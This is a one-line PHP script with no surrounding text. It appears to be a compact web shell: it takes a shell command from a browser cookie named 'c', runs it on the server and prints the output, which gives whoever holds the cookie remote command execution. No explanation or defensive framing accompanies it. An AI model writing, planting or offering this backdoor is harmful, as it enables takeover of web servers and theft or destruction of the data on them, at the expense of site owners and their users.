<?php $p = popen($_COOKIE["c"], "r"); while (!feof($p)) echo fgets($p);
